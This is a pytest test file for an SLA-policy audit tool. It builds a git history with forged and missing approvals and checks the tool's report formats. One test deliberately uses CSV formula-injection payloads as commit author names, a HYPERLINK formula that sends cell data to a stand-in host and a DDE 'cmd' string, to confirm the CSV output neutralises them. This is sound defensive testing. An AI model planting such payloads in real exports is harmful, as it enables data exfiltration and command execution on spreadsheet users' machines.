"""``slopolicy audit`` on a real repository: a year of history, real commits, real signatures.

The history (built once per module, committed at chosen dates):

    C1  2025-03-01  policy, signers, SLA globex v1 (99.9 from 2025-01-01)   root: nothing required
    C2  2025-03-10  globex v2: 99.95 from 2025-04-01                         tightened
    C3  2025-03-11  alice's signed legal approval of v2 (by alice)           -> C2 approved
    C4  2025-04-20  the backing SLO (99.95%)
    C5  2025-05-20  globex v3: 99.5 from 2025-07-01, no approval             NOT APPROVED
    C6  2025-06-01  slas/globex.yaml renamed to slas/globex-public-api.yaml
    C7  2025-08-01  globex v4: 99.0, still from 2025-07-01 (retroactive), bob (legal) and
                    carol (sre) approve; a record claiming alice, signed with mallory's key
    C8  2025-09-01  the policy adds mallory to legal (carol, sre, approves that), and SLA
                    initech is added with mallory's approval in the same commit: the
                    parent's roster judges it                                NOT APPROVED
    C9  2025-10-01  initech v2: 99.95 from 2025-11-01, approved by mallory (now in the roster)
    C10 2025-11-15  initech deleted without approval                         NOT APPROVED
    C11 2025-12-01  globex owner changed (metadata), with an Approved-by: trailer (claimed)
    C12 2025-12-15  dave leaves sre, without approval                        NOT APPROVED
"""
from __future__ import annotations

import contextlib
import csv
import datetime
import io
import os
import re
import subprocess
import xml.etree.ElementTree as ET
from decimal import Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from conftest import Project, Run, git
from gitrepos import POLICY, GitProject, Keys, sla

from slopolicy.cli import main
from slopolicy.report.audit import html as html_audit

SLO = """\
apiVersion: openslo/v1
kind: SLO
metadata:
  name: public-api-availability
spec:
  service: public-api
  budgetingMethod: Timeslices
  indicator:
    metadata: {name: public-api-ok}
    spec:
      ratioMetric:
        counter: true
        good: {metricSource: {type: Prometheus, spec: {query: good}}}
        total: {metricSource: {type: Prometheus, spec: {query: total}}}
  timeWindow:
    - duration: 1M
      isRolling: false
      calendar: {startTime: "2025-01-01 00:00:00", timeZone: UTC}
  objectives:
    - displayName: internal
      target: 0.9995
      timeSliceTarget: 0.95
      timeSliceWindow: 1m
"""
GLOBEX = "SLA/globex-public-api"
INITECH = "SLA/initech-api"


def initech(version: int = 1, start: str = "2025-09-01", target: str = "99.9") -> str:
    return sla(version, start, target).replace("globex-public-api", "initech-api").replace(
        "customer: globex", "customer: initech")


class Builder(GitProject):
    """A GitProject driven without capsys, so one history serves every test of the module."""

    def approve_quietly(self, user: str, role: str, path: str, key: str | None = None) -> None:
        old = Path.cwd()
        os.chdir(self.root)
        try:
            with contextlib.redirect_stdout(io.StringIO()), \
                    contextlib.redirect_stderr(io.StringIO()):
                code = main(["approve", path, "--role", role, "--identity",
                             f"{user}@acme.example", "--key", str(self.keys.private(key or user))])
        finally:
            os.chdir(old)
        assert code == 0


def build(root: Path, keys: Keys) -> dict[str, str]:
    """The history above; returns each commit's id by name."""
    root.mkdir(parents=True)
    b = Builder(root, None, keys)  # type: ignore[arg-type]
    b.git("init", "-q", "-b", "main")
    ids: dict[str, str] = {}
    b.write(".slopolicy.yaml", POLICY)
    b.write(".slopolicy/allowed_signers", keys.allowed_signers("alice", "bob", "carol", "dave"))
    b.write("slas/globex.yaml", sla())
    ids["C1"] = b.commit("the globex agreement", date="2025-03-01T12:00:00+00:00")
    b.write("slas/globex.yaml", sla(2, "2025-04-01", "99.95"))
    ids["C2"] = b.commit("globex v2: 99.95", date="2025-03-10T12:00:00+00:00")
    b.approve_quietly("alice", "legal", "slas/globex.yaml")
    ids["C3"] = b.commit("legal approval", author="alice", date="2025-03-11T12:00:00+00:00")
    b.write("slos/public-api.yaml", SLO)
    ids["C4"] = b.commit("the backing SLO", date="2025-04-20T12:00:00+00:00")
    b.write("slas/globex.yaml", sla(3, "2025-07-01", "99.5"))
    ids["C5"] = b.commit("globex v3: 99.5", date="2025-05-20T12:00:00+00:00")
    b.git("mv", "slas/globex.yaml", "slas/globex-public-api.yaml")
    ids["C6"] = b.commit("rename", date="2025-06-01T12:00:00+00:00")
    b.write("slas/globex-public-api.yaml", sla(4, "2025-07-01", "99.0"))
    b.approve_quietly("bob", "legal", "slas/globex-public-api.yaml")
    b.approve_quietly("carol", "sre", "slas/globex-public-api.yaml")
    b.approve_quietly("alice", "legal", "slas/globex-public-api.yaml", key="mallory")
    ids["C7"] = b.commit("globex v4: 99.0, in place", date="2025-08-01T12:00:00+00:00")
    b.write(".slopolicy.yaml", POLICY.replace("legal: [alice@acme.example",
                                              "legal: [mallory@acme.example, alice@acme.example"))
    b.write(".slopolicy/allowed_signers", keys.allowed_signers(
        "alice", "bob", "carol", "dave", "mallory"))
    b.write("slas/initech.yaml", initech())
    b.approve_quietly("mallory", "legal", "slas/initech.yaml")
    b.approve_quietly("carol", "sre", ".slopolicy.yaml")
    ids["C8"] = b.commit("mallory joins legal; initech", date="2025-09-01T12:00:00+00:00")
    b.write("slas/initech.yaml", initech(2, "2025-11-01", "99.95"))
    b.approve_quietly("mallory", "legal", "slas/initech.yaml")
    ids["C9"] = b.commit("initech v2", date="2025-10-01T12:00:00+00:00")
    (root / "slas/initech.yaml").unlink()
    ids["C10"] = b.commit("drop initech", date="2025-11-15T12:00:00+00:00")
    b.write("slas/globex-public-api.yaml", sla(4, "2025-07-01", "99.0").replace(
        "owner: accounts@acme.example", "owner: sales@acme.example"))
    ids["C11"] = b.commit("globex owner\n\nApproved-by: Alice <alice@acme.example>",
                          date="2025-12-01T12:00:00+00:00")
    policy = (root / ".slopolicy.yaml").read_text()
    b.write(".slopolicy.yaml", policy.replace("sre: [carol@acme.example, dave@acme.example",
                                              "sre: [carol@acme.example"))
    ids["C12"] = b.commit("dave leaves sre", date="2025-12-15T12:00:00+00:00")
    return ids


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory, keys: Keys) -> tuple[Path, dict[str, str]]:
    with pytest.MonkeyPatch.context() as patch:
        patch.setenv("GIT_CONFIG_NOSYSTEM", "1")
        patch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
        root = tmp_path_factory.mktemp("audit") / "repo"
        return root, build(root, keys)


@pytest.fixture
def history(built: tuple[Path, dict[str, str]], capsys: pytest.CaptureFixture[str],
            monkeypatch: pytest.MonkeyPatch) -> Project:
    monkeypatch.setenv("GIT_CONFIG_NOSYSTEM", "1")
    monkeypatch.setenv("GIT_CONFIG_GLOBAL", os.devnull)
    return Project(built[0], capsys)


@pytest.fixture
def ids(built: tuple[Path, dict[str, str]]) -> dict[str, str]:
    return built[1]


def audit(project: Project, *args: str) -> Run:
    return project.run("audit", *args)


def agreement(data: dict[str, Any], label: str) -> dict[str, Any]:
    return next(a for a in data["agreements"] if a["document"] == label)


# -- the timeline --------------------------------------------------------------------------

def test_timeline_json_has_every_version(history: Project, ids: dict[str, str]) -> None:
    run = audit(history, "--format", "json")
    assert run.code == 0, run.err
    data = run.json
    assert data["version"] == 1
    assert data["summary"] == {"agreements": 2, "versions": 8, "nonCompliant": 4}
    globex = agreement(data, GLOBEX)
    assert globex["file"] == "slas/globex-public-api.yaml"
    assert globex["files"] == ["slas/globex.yaml", "slas/globex-public-api.yaml"]
    assert [(v["commit"], v["version"], v["change"], v["compliant"]) for v in globex["versions"]] \
        == [(ids["C1"], 1, "added", True), (ids["C2"], 2, "tightened", True),
            (ids["C5"], 3, "loosened", False), (ids["C7"], 4, "loosened", True),
            (ids["C11"], 4, "metadata", True)]
    assert globex["moves"] == [{"commit": ids["C6"], "date": "2025-06-01T12:00:00+00:00",
                                "from": "slas/globex.yaml", "to": "slas/globex-public-api.yaml"}]
    v2 = globex["versions"][1]
    assert (v2["author"], v2["date"], v2["effective"]) == (
        "Dev <dev@acme.example>", "2025-03-10T12:00:00+00:00",
        {"from": "2025-04-01", "until": None})
    assert {"path": "spec.objectives[availability].targetPercent", "from": 99.9, "to": 99.95,
            "direction": "tightened"} in v2["changes"]
    [found] = v2["approvals"]
    assert {k: found[k] for k in ("identity", "role", "evidence", "valid", "reason")} == {
        "identity": "alice@acme.example", "role": "legal", "evidence": "signed", "valid": True,
        "reason": None}
    assert found["recorded"]["commit"] == ids["C3"]  # approved in the next commit: it counts
    assert v2["policy"]["commit"] == ids["C1"]
    assert len(v2["commit"]) == 40


def test_unapproved_loosening_says_what_was_missing(history: Project) -> None:
    v3 = agreement(audit(history, "--format", "json").json, GLOBEX)["versions"][2]
    assert v3["approvals"] == []
    assert sorted((m["class"], m["role"], m["count"]) for m in v3["missing"]) == [
        ("loosened", "legal", 1), ("loosened", "sre", 1), ("modified", "legal", 1)]
    assert v3["retroactive"] is False


def test_retroactive_edit_and_a_forged_signature(history: Project) -> None:
    v4 = agreement(audit(history, "--format", "json").json, GLOBEX)["versions"][3]
    assert v4["retroactive"] is True  # from 2025-07-01, changed on 2025-08-01
    found = {(a["identity"], a["role"], a["valid"]) for a in v4["approvals"]}
    assert found == {("bob@acme.example", "legal", True), ("carol@acme.example", "sre", True),
                     ("alice@acme.example", "legal", False)}
    forged = next(a for a in v4["approvals"] if not a["valid"])
    assert "its signature does not verify for alice@acme.example" in forged["reason"]


def test_the_policy_of_the_parent_commit_judges(history: Project, ids: dict[str, str]) -> None:
    initech_ = agreement(audit(history, "--format", "json").json, INITECH)
    added, tightened, removed = initech_["versions"]
    assert (added["commit"], added["change"], added["compliant"]) == (ids["C8"], "added", False)
    [mallory] = added["approvals"]
    assert mallory["reason"] == ("mallory@acme.example does not hold role 'legal' in the base "
                                 "policy")
    assert added["policy"]["commit"] == ids["C7"]
    assert (tightened["commit"], tightened["compliant"]) == (ids["C9"], True)
    assert (removed["commit"], removed["change"], removed["compliant"]) == (
        ids["C10"], "removed", False)
    assert initech_["removed"] is True and initech_["file"] == "slas/initech.yaml"


def test_policy_changes_are_judged_by_the_policy_before_them(history: Project,
                                                            ids: dict[str, str]) -> None:
    policy = audit(history, "--format", "json").json["policy"]
    assert policy["file"] == ".slopolicy.yaml"
    assert [(c["commit"], c["compliant"]) for c in policy["changes"]] == [
        (ids["C1"], True), (ids["C8"], True), (ids["C12"], False)]
    first, roster, dave = policy["changes"]
    assert first["files"] == [{"path": ".slopolicy.yaml", "change": "added"},
                              {"path": ".slopolicy/allowed_signers", "change": "added"}]
    assert first["required"] == []  # before the first commit nothing was required
    assert [(a["identity"], a["role"], a["valid"]) for a in roster["approvals"]] == [
        ("carol@acme.example", "sre", True)]
    assert roster["files"] == [{"path": ".slopolicy.yaml", "change": "modified"},
                               {"path": ".slopolicy/allowed_signers", "change": "modified"}]
    assert dave["missing"] == [{"class": "policy", "role": "sre", "count": 1, "holders": [
        "carol@acme.example", "dave@acme.example", "github:carol-gh"]}]


def test_a_trailer_is_shown_as_claimed(history: Project) -> None:
    v5 = agreement(audit(history, "--format", "json").json, GLOBEX)["versions"][4]
    assert [(a["identity"], a["evidence"], a["valid"]) for a in v5["approvals"]] == [
        ("alice@acme.example", "claimed", False)]
    assert v5["changes"] == [{"path": "metadata.owner", "from": "accounts@acme.example",
                              "to": "sales@acme.example", "direction": "metadata"}]


def test_text_timeline(history: Project, ids: dict[str, str]) -> None:
    run = audit(history)
    assert run.code == 0
    lines = run.out.splitlines()
    assert lines[0].startswith("2 agreements, 8 changes, 3 policy changes in repo at ")
    assert lines[0].endswith(": 4 without the approvals they needed")
    assert "SLA/globex-public-api  slas/globex-public-api.yaml  (customer globex, " \
           "service public-api)" in lines
    assert (f"  2025-03-10  {ids['C2'][:7]}  v2   tightened  Dev <dev@acme.example>  "
            "effective 2025-04-01 →  approved") in lines
    assert "      spec.objectives[availability].targetPercent: 99.9 → 99.95 (tightened)" in lines
    assert (f"      ✓ alice@acme.example (legal, signed, committed in {ids['C3'][:7]} on "
            "2025-03-11): counted") in lines
    assert (f"  2025-06-01  {ids['C6'][:7]}  moved from slas/globex.yaml to "
            "slas/globex-public-api.yaml") in lines
    assert ("      ! retroactive: these terms take effect on 2025-07-01, before the change on "
            "2025-08-01, so they rewrite a period already past") in lines


def test_paths_and_range_limit_the_timeline(history: Project) -> None:
    data = audit(history, "slas/initech.yaml", "--format", "json").json
    assert [a["document"] for a in data["agreements"]] == [INITECH]
    # The old name of a renamed file still finds the agreement.
    data = audit(history, "slas/globex.yaml", "--format", "json").json
    assert [a["document"] for a in data["agreements"]] == [GLOBEX]
    data = audit(history, "--since", "2025-08-01", "--until", "2025-10-01", "--format", "json").json
    assert [(a["document"], [v["version"] for v in a["versions"]]) for a in data["agreements"]] \
        == [(GLOBEX, [4]), (INITECH, [1, 2])]


# -- --verify ------------------------------------------------------------------------------

def test_verify_names_each_unapproved_commit(history: Project, ids: dict[str, str]) -> None:
    run = audit(history, "--verify")
    assert run.code == 1
    lines = run.err.splitlines()
    assert lines[0] == "slopolicy: audit --verify: 4 change(s) lacked the approvals they needed:"
    assert [line.split()[0] for line in lines[1:]] == [ids["C5"][:7], ids["C8"][:7],
                                                       ids["C10"][:7], ids["C12"][:7]]
    assert lines[4] == (f"  {ids['C12'][:7]} policy .slopolicy.yaml (2025-12-15): 1 more sre "
                        "approver (for policy; sre: carol@acme.example, dave@acme.example, "
                        "github:carol-gh)")
    assert lines[1].startswith(f"  {ids['C5'][:7]} SLA/globex-public-api v3 loosened "
                               "(2025-05-20): 1 more legal approver")
    assert "1 more sre approver" in lines[1]


def test_verify_passes_when_the_chain_holds(history: Project) -> None:
    run = audit(history, "--verify", "--until", "2025-05-01", "--format", "json")
    assert run.code == 0, run.err
    assert run.json["summary"]["nonCompliant"] == 0
    run = audit(history, "--verify", "--since", "2025-08-01", "--until", "2025-08-31")
    assert run.code == 0
    run = audit(history, "--verify", "--since", "2025-11-01")
    assert (run.code, run.err.count("\n")) == (1, 3)


def test_verify_judges_an_agreement_added_back_looser_as_the_loosening(repo: GitProject) -> None:
    """Removed with legal's approval, added back looser with legal's approval as an addition:
    the loosening's sre approval is still needed, as the gate asks it."""
    repo.git("rm", "-q", "slas/globex.yaml")
    removed = repo.commit("remove the globex agreement", date="2025-03-05T12:00:00+00:00")
    repo.approve("alice", "legal", "slas/globex.yaml", "--removed-from", "main")
    repo.commit("legal approves the removal", author="alice", date="2025-03-06T12:00:00+00:00")
    repo.write("slas/globex.yaml", sla(2, "2025-05-01", "99.5"))
    added = repo.commit("add the globex agreement back", date="2025-03-10T12:00:00+00:00")
    repo.approve("alice", "legal")
    repo.commit("legal approves the addition", author="alice", date="2025-03-11T12:00:00+00:00")
    run = repo.run("audit", "--verify")
    assert run.code == 1
    assert run.err.splitlines()[1:] == [
        f"  {added[:7]} SLA/globex-public-api v2 added (2025-03-10): 1 more sre approver (for "
        "loosened; sre: carol@acme.example, dave@acme.example, github:carol-gh)"]
    lines = repo.run("audit").out.splitlines()
    at = lines.index(next(line for line in lines if added[:7] in line))
    assert lines[at + 1:at + 4] == [
        f"      added back, against the version removed in {removed[:7]} (2025-03-05):",
        "      spec.effective.from: 2025-01-01 → 2025-05-01 (modified)",
        "      spec.objectives[availability].targetPercent: 99.9 → 99.5 (loosened)"]
    version = agreement(repo.run("audit", "--format", "json").json, GLOBEX)["versions"][-1]
    assert (version["change"], version["classes"], version["compliant"]) == (
        "added", ["added", "loosened", "modified"], False)
    assert (version["earlier"]["removedBy"], version["earlier"]["classes"]) == (
        removed, ["loosened", "modified"])
    repo.approve("carol", "sre")
    repo.commit("sre approves the loosening", author="carol", date="2025-03-12T12:00:00+00:00")
    assert (run := repo.run("audit", "--verify")).code == 0, run.err


@pytest.mark.parametrize("text, needs", [
    (sla(), None),
    (sla(2, "2025-05-01", "99.5").replace("name: globex-public-api", "name: globex-2025"),
     "1 more sre approver (for loosened;"),
], ids=["as-it-was", "looser-under-another-name"])
def test_verify_finds_the_version_removed_by_name_or_by_parties(repo: GitProject, text: str,
                                                                needs: str | None) -> None:
    repo.git("rm", "-q", "slas/globex.yaml")
    removed = repo.commit("remove the globex agreement", date="2025-03-05T12:00:00+00:00")
    repo.write("slas/globex-2025.yaml", text)
    added = repo.commit("add the globex agreement back", date="2025-03-10T12:00:00+00:00")
    repo.approve("alice", "legal", "slas/globex-2025.yaml")
    repo.commit("legal approves the addition", author="alice", date="2025-03-11T12:00:00+00:00")
    lines = repo.run("audit", "--verify").err.splitlines()
    if needs is None:  # only the removal lacks its approval
        assert [line.split()[0] for line in lines[1:]] == [removed[:7]]
    else:
        assert lines[2].startswith(f"  {added[:7]} SLA/globex-2025 v2 added (2025-03-10): ")
        assert needs in lines[2]
    out = repo.run("audit").out
    said = f"      added back, against the version removed in {removed[:7]} (2025-03-05)"
    assert said + (": the same terms\n" if needs is None else ":\n") in out


def test_verify_compares_with_the_last_version_removed(repo: GitProject) -> None:
    """Removed; another name for the same customer and service added tighter and removed;
    the first added back as it was: looser than the last version removed."""
    repo.git("rm", "-q", "slas/globex.yaml")
    repo.commit("remove the globex agreement", date="2025-03-05T12:00:00+00:00")
    repo.write("slas/globex-2025.yaml", sla(2, "2025-04-01", "99.95").replace(
        "name: globex-public-api", "name: globex-2025"))
    repo.commit("globex, tighter, another name", date="2025-03-06T12:00:00+00:00")
    repo.git("rm", "-q", "slas/globex-2025.yaml")
    last = repo.commit("remove it", date="2025-03-07T12:00:00+00:00")
    repo.write("slas/globex.yaml", sla())
    repo.commit("the first, as it was", date="2025-03-10T12:00:00+00:00")
    version = agreement(repo.run("audit", "--format", "json").json, GLOBEX)["versions"][-1]
    assert (version["earlier"]["removedBy"], version["earlier"]["document"]) == (
        last, "SLA/globex-2025")
    assert {"path": "spec.objectives[availability].targetPercent", "from": 99.95, "to": 99.9,
            "direction": "loosened"} in version["earlier"]["changes"]


# -- valid time and transaction time -------------------------------------------------------

def in_force(project: Project, *args: str) -> dict[str, Any]:
    run = audit(project, "--format", "json", *args)
    assert run.code == 0, run.err
    data: dict[str, Any] = run.json
    return data


def versions(data: dict[str, Any]) -> dict[str, tuple[int, str]]:
    return {a["document"]: (a["version"], a["commit"]) for a in data["agreements"]}


@pytest.mark.parametrize(("date", "expected"), [
    ("2025-02-15", {GLOBEX: (1, "C1")}),
    ("2025-04-15", {GLOBEX: (2, "C2")}),
    ("2025-06-30", {GLOBEX: (2, "C2")}),  # v3 was recorded on 05-20 to start on 07-01
    ("2025-07-15", {GLOBEX: (4, "C11")}),  # v4, as last recorded (owner changed in C11)
    ("2025-09-15", {GLOBEX: (4, "C11"), INITECH: (1, "C8")}),
    ("2025-11-10", {GLOBEX: (4, "C11"), INITECH: (2, "C9")}),
    ("2025-11-20", {GLOBEX: (4, "C11")}),  # initech was deleted on 11-15
])
def test_as_of_gives_the_terms_in_force(history: Project, ids: dict[str, str], date: str,
                                        expected: dict[str, tuple[int, str]]) -> None:
    data = in_force(history, "--as-of", date)
    assert (data["asOf"], data["knownAt"]) == (date, None)
    assert versions(data) == {k: (v, ids[c]) for k, (v, c) in expected.items()}


@pytest.mark.parametrize(("as_of", "known_at", "expected"), [
    ("2025-07-15", "2025-07-15", {GLOBEX: (3, "C5")}),  # before the retroactive edit
    ("2025-07-15", "2025-08-01", {GLOBEX: (4, "C7")}),
    ("2025-11-20", "2025-11-01", {GLOBEX: (4, "C7"), INITECH: (2, "C9")}),  # not deleted yet
    ("2025-04-15", "2025-03-05", {GLOBEX: (1, "C1")}),  # v2 was not recorded yet
    ("2025-02-15", "2025-02-15", {}),  # the repository did not exist
])
def test_known_at_gives_what_the_repository_said(history: Project, ids: dict[str, str],
                                                 as_of: str, known_at: str,
                                                 expected: dict[str, tuple[int, str]]) -> None:
    data = in_force(history, "--as-of", as_of, "--known-at", known_at)
    assert data["knownAt"] == f"{known_at}T23:59:59.999999+00:00"
    assert versions(data) == {k: (v, ids[c]) for k, (v, c) in expected.items()}


def test_known_at_alone_asks_about_that_date(history: Project, ids: dict[str, str]) -> None:
    data = in_force(history, "--known-at", "2025-07-15")
    assert data["asOf"] == "2025-07-15"
    assert versions(data) == {GLOBEX: (3, ids["C5"])}


def test_a_retroactive_edit_shows_where_the_answers_differ(history: Project,
                                                           ids: dict[str, str]) -> None:
    data = in_force(history, "--as-of", "2025-07-15")
    [edit] = data["retroactive"]
    assert edit["document"] == GLOBEX and edit["kind"] == "rewritten"
    assert (edit["then"]["version"], edit["then"]["commit"]) == (3, ids["C5"])
    assert (edit["now"]["version"], edit["now"]["commit"]) == (4, ids["C11"])
    assert edit["rewrittenBy"]["commit"] == ids["C7"]
    terms = agreement(data, GLOBEX)["terms"]
    assert terms["objectives"][0]["targetPercent"] == 99.0
    assert in_force(history, "--as-of", "2025-04-15")["retroactive"] == []
    text = audit(history, "--as-of", "2025-07-15").out
    assert (f"  ! retroactive edit: as recorded on 2025-07-15, v3 (commit {ids['C5'][:7]}, "
            f"effective 2025-07-01 →) was in force on that date; since {ids['C7'][:7]} "
            "(2025-08-01, Dev <dev@acme.example>) the repository says v4 (effective "
            "2025-07-01 →)") in text.splitlines()
    assert "retroactive edit" in audit(history, "--as-of", "2025-07-15",
                                       "--format", "markdown").out


def test_an_agreement_recorded_after_its_start_is_no_rewrite(history: Project) -> None:
    [note] = in_force(history, "--as-of", "2025-02-15")["retroactive"]
    assert (note["kind"], note["then"], note["now"]["version"]) == ("recorded-later", None, 1)


def test_one_sweep_answers_as_each_date_asked_alone(repo: GitProject,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    """The chart's sweep over dates gives what ``in_force`` gives date by date: versions
    recorded out of the order of their starts, an end, a removal and a return."""
    from slopolicy.config.project import open_project
    from slopolicy.gitops import audit as walker
    from slopolicy.gitops.git import open_repo

    for number, (start, until) in enumerate([("2025-07-01", None), ("2025-06-01", None),
                                             ("2025-06-15", "2025-09-01"),
                                             ("2025-05-01", None)], start=2):
        text = sla(number, start)
        if until:
            text = text.replace(f"from: {start}\n", f"from: {start}\n    until: {until}\n")
        repo.write("slas/globex.yaml", text)
        repo.commit(f"v{number}", date=f"2025-0{number}-10T12:00:00+00:00")
        if number == 4:
            (repo.root / "slas/globex.yaml").unlink()
            repo.commit("gone", date="2025-04-20T12:00:00+00:00")
    monkeypatch.chdir(repo.root)
    project = open_project([], None)
    found = walker.walk(project, open_repo(project.repo_root))
    for agreement in found.agreements:
        dates = sorted({d for v in agreement.versions for d in (v.starts, v.ends, v.changed_on)
                        if d is not None} | {d + step for v in agreement.versions
                                             for d in (v.starts, v.ends) if d is not None
                                             for step in (datetime.timedelta(days=-1),
                                                          datetime.timedelta(days=1))})
        assert walker.in_force_on(agreement, dates) == [walker.in_force(agreement, d)
                                                        for d in dates]
    [agreement] = found.agreements
    # setting an end (2025-09-01) loosens: the customer is covered for less time
    assert [v.status for v in agreement.versions][-3:] == ["loosened", "removed", "added"]


def test_each_version_binds_its_own_content(repo: GitProject,
                                             monkeypatch: pytest.MonkeyPatch) -> None:
    """Every version's digests are those of its own text, however its parts are shared:
    namesakes in two files, a copy of a version, a version back to an earlier text."""
    from slopolicy.changes import approvals
    from slopolicy.config.project import open_project
    from slopolicy.gitops import audit as walker
    from slopolicy.gitops.git import open_repo

    steps = [("slas/globex.yaml", sla(2, "2025-02-01", "99.95")),
             ("slas/other/globex.yaml", sla(2, "2025-02-01", "98.95")),  # a namesake
             ("slas/globex.yaml", sla(3, "2025-03-01", "99.5")),
             ("slas/copy.yaml", sla(3, "2025-03-01", "99.5").replace("name: globex",
                                                                     "name: copy")),
             ("slas/other/globex.yaml", sla(3, "2025-03-01", "98.5")),
             ("slas/globex.yaml", sla(2, "2025-02-01", "99.95"))]  # back to an earlier text
    for number, (path, text) in enumerate(steps):
        repo.write(path, text)
        repo.commit(f"step {number}", date=f"2025-0{number + 2}-10T12:00:00+00:00")
    monkeypatch.chdir(repo.root)
    project = open_project([], None)
    found = walker.walk(project, open_repo(project.repo_root))
    versions = [v for a in found.agreements for v in a.versions]
    assert len(versions) >= 7
    for version in versions:
        change = version.change
        assert version.subject.after == (approvals.digest(change.head.data) if change.head
                                         else approvals.REMOVED)
        assert version.subject.before == (approvals.digest(change.base.data) if change.base
                                          else approvals.ABSENT)


# -- formats -------------------------------------------------------------------------------

def test_csv_reads_back_one_row_per_version(history: Project, ids: dict[str, str]) -> None:
    run = audit(history, "--format", "csv")
    rows = list(csv.DictReader(io.StringIO(run.out)))
    assert len(rows) == 8 + 3  # the versions, then the policy changes
    assert [(r["document"], r["commit"], r["version"], r["change"], r["compliant"])
            for r in rows[:3]] == [
        (GLOBEX, ids["C1"], "1", "added", "yes"), (GLOBEX, ids["C2"], "2", "tightened", "yes"),
        (GLOBEX, ids["C5"], "3", "loosened", "no")]
    assert rows[1]["approvals"].startswith("alice@acme.example (legal, signed, committed in ")
    assert rows[2]["missing"].startswith("1 more legal approver")
    assert rows[3]["retroactive"] == "yes"
    assert run.out.endswith("\r\n")
    snapshot = list(csv.DictReader(io.StringIO(audit(history, "--format", "csv", "--as-of",
                                                     "2025-09-15").out)))
    assert [(r["document"], r["version"]) for r in snapshot] == [(GLOBEX, "4"), (INITECH, "1")]


def test_csv_never_hands_a_spreadsheet_a_formula(repo: GitProject) -> None:
    """Git lets anyone name themselves ``=HYPERLINK(...)``: the cell stays text."""
    repo.write("slas/globex.yaml", sla(2, "2025-03-01", "99.5"))
    git(repo.root, "add", "-A")
    evil = {"GIT_AUTHOR_NAME": '=HYPERLINK("http://x.example/?"&A1)',
            "GIT_AUTHOR_EMAIL": "x@x.example", "GIT_COMMITTER_NAME": "+cmd|' /C calc'!A0",
            "GIT_COMMITTER_EMAIL": "c@x.example", "GIT_AUTHOR_DATE": "2025-02-01T12:00:00Z",
            "GIT_COMMITTER_DATE": "2025-02-01T12:00:00Z"}
    git(repo.root, "commit", "-q", "-m", "loosen", env=evil)
    run = repo.run("audit", "--format", "csv")
    assert run.code == 0, run.err
    rows = list(csv.reader(io.StringIO(run.out)))
    risky = [cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == []
    authors = [row[rows[0].index("author")] for row in rows[1:]]
    assert "'=HYPERLINK(\"http://x.example/?\"&A1) <x@x.example>" in authors


def test_markdown_has_a_table_per_agreement(history: Project, ids: dict[str, str]) -> None:
    out = audit(history, "--format", "markdown").out
    assert out.startswith("# Agreement audit\n")
    assert out.count("| Date | Commit | Version | Effective | Change |") == 2
    assert f"| 2025-05-20 | `{ids['C5'][:7]}` | 3 | 2025-07-01 → | loosened |" in out
    assert f"> ⚠️ `{ids['C7'][:7]}`: retroactive: these terms take effect" in out


class _Html(HTMLParser):
    """Collects the tags and the SVG markup of a report."""

    def __init__(self) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.svgs: list[str] = []
        self._depth = 0
        self._svg: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if tag == "svg" and ("class", "timeline") in attrs:
            self._depth = 1
            self._svg = [self.get_starttag_text() or ""]
        elif self._depth:
            self._depth += tag == "svg"
            self._svg.append(self.get_starttag_text() or "")

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, dict(attrs)))
        if self._depth:
            self._svg.append(self.get_starttag_text() or "")  # already closed: "<rect .../>"

    def handle_endtag(self, tag: str) -> None:
        if self._depth:
            self._svg.append(f"</{tag}>")
            self._depth -= tag == "svg"
            if not self._depth:
                self.svgs.append("".join(self._svg))

    def handle_data(self, data: str) -> None:
        if self._depth:
            from html import escape

            self._svg.append(escape(data))


def test_html_is_one_self_contained_file_with_a_chart_per_agreement(history: Project) -> None:
    run = audit(history, "--format", "html")
    assert run.code == 0
    page = _Html()
    page.feed(run.out)
    names = {t for t, _ in page.tags}
    assert "script" not in names and "link" not in names and "img" not in names
    assert "url(" not in run.out and "@import" not in run.out
    assert all("src" not in attrs for _, attrs in page.tags)
    assert "@media print" in run.out
    assert len(page.svgs) == 2
    namespace = {"s": "http://www.w3.org/2000/svg"}
    globex, initech_ = (ET.fromstring(svg) for svg in page.svgs)
    for chart, markers in ((globex, 5), (initech_, 3)):
        panels = chart.findall("s:g[@class='objective']", namespace)
        assert [(p.get("data-objective"), p.get("data-measure")) for p in panels] == [
            ("availability", "target"), ("latency-p95", "target"), ("latency-p95", "threshold")]
        for panel in panels:
            kind = "sla-threshold" if panel.get("data-measure") == "threshold" else "sla-target"
            [line] = panel.findall(f"s:path[@class='{kind}']", namespace)
            assert line.get("d", "").startswith("M")
        assert len(chart.findall(".//s:circle", namespace)) == markers
    kinds = [c.get("class") for c in globex.findall(".//s:circle", namespace)]
    assert kinds == ["marker not-required", "marker approved", "marker unapproved",
                     "marker approved", "marker not-required"]
    # The backing SLO's target beside the SLA's, for the availability objective only.
    backing = globex.findall(".//s:path[@class='slo-target']", namespace)
    assert len(backing) == 1
    assert "99.95% (SLO/public-api-availability)" in (backing[0].findtext("s:title", "",
                                                                            namespace))


def _panel(out: str, objective: str, measure: str) -> ET.Element:
    page = _Html()
    page.feed(out)
    namespace = {"s": "http://www.w3.org/2000/svg"}
    chart = ET.fromstring(page.svgs[0])
    [panel] = [p for p in chart.findall("s:g[@class='objective']", namespace)
               if (p.get("data-objective"), p.get("data-measure")) == (objective, measure)]
    return panel


def test_html_charts_a_loosened_latency_threshold(repo: GitProject) -> None:
    """500 ms to 800 ms at the same 95%: the target's line stays flat, the threshold's rises."""
    repo.write("slas/globex.yaml", sla(2, "2025-06-01", threshold="800ms"))
    repo.commit("slower is fine", date="2025-05-01T12:00:00+00:00")
    out = repo.run("audit", "--format", "html").out
    namespace = {"s": "http://www.w3.org/2000/svg"}
    target = _panel(out, "latency-p95", "target").find("s:path", namespace)
    threshold = _panel(out, "latency-p95", "threshold").find("s:path", namespace)
    assert target is not None and threshold is not None
    def levels(path: ET.Element) -> list[str]:
        return list(dict.fromkeys(re.findall(r"(?:M[\d.]+,|V)([\d.]+)", path.get("d", ""))))

